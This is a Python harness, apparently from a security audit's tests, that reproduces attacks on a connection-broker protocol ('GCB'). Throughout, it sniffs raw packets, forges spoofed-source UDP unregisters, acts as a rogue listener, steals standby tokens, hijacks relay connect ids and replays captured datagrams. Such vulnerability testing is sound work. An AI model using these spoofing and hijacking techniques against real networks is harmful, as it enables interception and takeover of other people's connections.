import hashlib, json, os, random, socket, struct, sys, time
mode = sys.argv[1]
BROKER = ("203.0.113.10", 9650)

def frame(env):
    # An unkeyed request, padded like an honest peer's (gcb_proto::rudp): so that the
    # broker's answer is not larger than the request.
    j = json.dumps(env, separators=(",", ":")).encode()
    return b"GCB1\x00" + j + b" " * max(0, 512 - 5 - len(j))

def unframe(d):
    if d[:4] != b"GCB1":
        return None
    try:
        return json.loads(d[61 if d[4] == 1 else 5:].decode().strip())
    except Exception:
        return None

def sniffed(path):
    # The observer's capture: (proto, src, dst, payload) per line.
    out = []
    try:
        lines = open(path).read().splitlines()
    except OSError:
        return out
    for l in lines:
        w = l.split()
        if len(w) == 4 and w[0] in ("UDP", "TCP"):
            try:
                out.append((w[0], w[1], w[2], bytes.fromhex(w[3])))
            except ValueError:
                pass
    return out

def wait_sniffed(path, pred, timeout):
    end = time.time() + timeout
    while time.time() < end:
        for rec in sniffed(path):
            if pred(rec):
                return rec
        time.sleep(0.005)
    print("NOT_SNIFFED", flush=True)
    sys.exit(3)

def read_for(s, seconds, enough=None):
    # What s receives for `seconds` (or until it closes, or `enough` bytes came):
    # (bytes, how it ended).
    got, end = b"", time.time() + seconds
    while time.time() < end and (enough is None or len(got) < enough):
        s.settimeout(max(0.01, end - time.time()))
        try:
            d = s.recv(65536)
        except socket.timeout:
            return got, "IDLE"
        except ConnectionResetError:
            return got, "RESET"
        except OSError as e:
            return got, "ERR_%s" % e.errno
        if not d:
            return got, "CLOSED"
        got += d
    return got, "IDLE"

if mode == "sniff":
    # sniff OUT: the on-path observer on p1. Writes every GCB control datagram and every
    # relay-port preamble p1 sends or receives: "UDP|TCP src dst payload-hex".
    out = open(sys.argv[2], "a")
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind(("eth0", 0))
    print("SNIFFING", flush=True)
    while True:
        d = s.recv(262144)
        if len(d) < 34 or d[12:14] != b"\x08\x00":
            continue
        ip = d[14:]
        ihl = (ip[0] & 15) * 4
        total = struct.unpack("!H", ip[2:4])[0] or len(ip)
        ip = ip[:total]
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        l4 = ip[ihl:]
        if ip[9] == 17 and len(l4) >= 8:
            sp, dp = struct.unpack("!HH", l4[:4])
            payload, proto = l4[8:], "UDP"
            if not payload.startswith(b"GCB1"):
                continue
        elif ip[9] == 6 and len(l4) >= 20:
            sp, dp = struct.unpack("!HH", l4[:4])
            payload, proto = l4[(l4[12] >> 4) * 4:], "TCP"
            if not payload.startswith(b"GCB-"):
                continue
        else:
            continue
        out.write("%s %s:%d %s:%d %s\n" % (proto, src, sp, dst, dp, payload.hex()))
        out.flush()

elif mode == "takeover":
    # takeover SPOOF_IP SPOOF_PORT PROXY SECONDS: the recipe of finding 2. A blind
    # unregister of PROXY forged from the listener's control address, then a register
    # asking for PROXY; then, as a rogue listener, serve every connect_back with our own
    # bytes for SECONDS.
    spoof_ip, spoof_port, proxy, secs = sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
    env = {"v": 1, "id": 7001, "body": {"type": "unregister", "proxy": proxy, "transport": "tcp"}}
    payload = b"GCB1\x00" + json.dumps(env).encode()
    udp = struct.pack("!HHHH", spoof_port, BROKER[1], 8 + len(payload), 0) + payload  # no checksum
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(1, 65535), 0, 64, 17, 0,
                      socket.inet_aton(spoof_ip), socket.inet_aton(BROKER[0]))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    for _ in range(3):
        raw.sendto(hdr + udp, (BROKER[0], 0))
    print("SPOOFED", flush=True)
    time.sleep(0.1)
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(2)
    reg = {"v": 1, "id": 7002, "body": {"type": "register", "transport": "tcp",
           "local": "192.168.77.7:8100", "previous_proxy": proxy}}
    got = None
    for _ in range(3):
        c.sendto(frame(reg), BROKER)
        try:
            d, _ = c.recvfrom(65536)
            got = unframe(d)
            break
        except socket.timeout:
            pass
    body = (got or {}).get("body", {})
    print("ATTACKER_PROXY", body.get("proxy", "none"), json.dumps(body), flush=True)
    end = time.time() + secs
    served = 0
    while time.time() < end:
        c.settimeout(max(0.01, end - time.time()))
        try:
            d, a = c.recvfrom(65536)
        except socket.timeout:
            break
        m = unframe(d)
        if not m or m.get("body", {}).get("type") != "connect_back":
            continue
        b = m["body"]
        c.sendto(frame({"v": 1, "id": 7100 + served, "re": m["id"], "body": {"type": "ack"}}), a)
        host, port = b["dial"].rsplit(":", 1)
        try:
            t = socket.create_connection((host, int(port)), timeout=2)
            t.sendall(("GCB-CONNECT %s\n" % b["connect_id"]).encode())
            t.sendall(b"ATTACKER-BYTES " * 100)
            t.close()
            served += 1
            print("SERVED", b["connect_id"], flush=True)
        except OSError as e:
            print("DIAL_FAILED", e, flush=True)

elif mode == "register":
    # register TRANSPORT LOCAL PREVIOUS_PROXY: one unkeyed register; prints the answer.
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(2)
    reg = {"v": 1, "id": 7201, "body": {"type": "register", "transport": sys.argv[2],
           "local": sys.argv[3], "previous_proxy": sys.argv[4]}}
    for _ in range(3):
        c.sendto(frame(reg), BROKER)
        try:
            d, _ = c.recvfrom(65536)
            body = (unframe(d) or {}).get("body", {})
            print("REPLY", body.get("proxy", "none"), json.dumps(body), flush=True)
            sys.exit(0)
        except socket.timeout:
            pass
    print("NO_ANSWER", flush=True)

elif mode == "standby":
    # standby SNIFF_FILE token|preamble SECONDS: park a standby for a1's listener with what
    # the observer saw: `GCB-STANDBY <registered.token>` (token) or the shim's own standby
    # preamble, byte for byte (preamble). Serves a claim with our own bytes.
    path, what, secs = sys.argv[2], sys.argv[3], float(sys.argv[4])
    if what == "token":
        def pred(r):
            m = unframe(r[3]) if r[0] == "UDP" else None
            return (r[1] == "203.0.113.10:9650" and r[2].startswith("203.0.113.1:") and m
                    and m.get("body", {}).get("type") == "registered")
        m = unframe(wait_sniffed(path, pred, 10)[3])
        line = ("GCB-STANDBY %s\n" % m["body"]["token"]).encode()
    else:
        pred = lambda r: (r[0] == "TCP" and r[1].startswith("203.0.113.1:")
                          and r[2] == "203.0.113.10:9650" and r[3].startswith(b"GCB-STANDBY "))
        line = wait_sniffed(path, pred, 10)[3][:45]
    s = socket.create_connection(BROKER, timeout=3)
    s.sendall(line)
    print("PARKING", line.decode().strip(), flush=True)
    got, how = read_for(s, secs, 12)
    if got.startswith(b"GCB-GO"):
        # Take the claim: ack it and serve the client our own bytes.
        try:
            s.sendall(b"!" + b"ATTACKER-BYTES " * 100)
        except OSError:
            pass
        print("CLAIMED", got.hex(), flush=True)
    else:
        print("NOT_CLAIMED", how, len(got), flush=True)

elif mode == "connect_watch":
    # connect_watch SNIFF_FILE DST_IP SECONDS: as soon as the observer sees a relay (or a
    # TCP punch: its leg presents the id on the relay port too) connect_decision going to
    # DST_IP, present its connect id on the relay port.
    path, dst, secs = sys.argv[2], sys.argv[3], float(sys.argv[4])
    print("WATCHING", flush=True)
    def pred(r):
        m = unframe(r[3]) if r[0] == "UDP" else None
        b = (m or {}).get("body", {})
        return (r[1] == "203.0.113.10:9650" and r[2].startswith(dst + ":")
                and b.get("type") == "connect_decision"
                and b["route"].get("kind") in ("relay", "punch"))
    m = unframe(wait_sniffed(path, pred, 15)[3])
    cid = m["body"]["route"]["connect_id"]
    s = socket.create_connection(BROKER, timeout=3)
    s.sendall(("GCB-CONNECT %s\n" % cid).encode())
    print("PRESENTED", cid, flush=True)
    got, how = read_for(s, secs)
    print("SPLICED_BYTES", len(got), how, flush=True)

elif mode == "replay":
    # replay SNIFF_FILE: sends the first register datagram a1's shim sent, byte for byte,
    # from here; prints the broker's answer.
    pred = lambda r: (r[0] == "UDP" and r[1].startswith("203.0.113.1:") and r[2] == "203.0.113.10:9650"
                      and (unframe(r[3]) or {}).get("body", {}).get("type") == "register")
    d = wait_sniffed(sys.argv[2], pred, 1)[3]
    assert d[4] == 1, "the captured frame is keyed"
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(3)
    c.sendto(d, BROKER)
    print("REPLAYED", len(d), flush=True)
    try:
        r, _ = c.recvfrom(65536)
        print("ANSWER", json.dumps((unframe(r) or {}).get("body")), flush=True)
    except socket.timeout:
        print("NO_ANSWER", flush=True)

elif mode == "fetch":
    # fetch IP PORT: a client; reads to the end, prints GOT <n> <sha256>.
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=10)
    s.settimeout(10)
    data = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            data += d
    except OSError as e:
        print("ERROR", e, flush=True)
    print("GOT", len(data), hashlib.sha256(data).hexdigest(), flush=True)
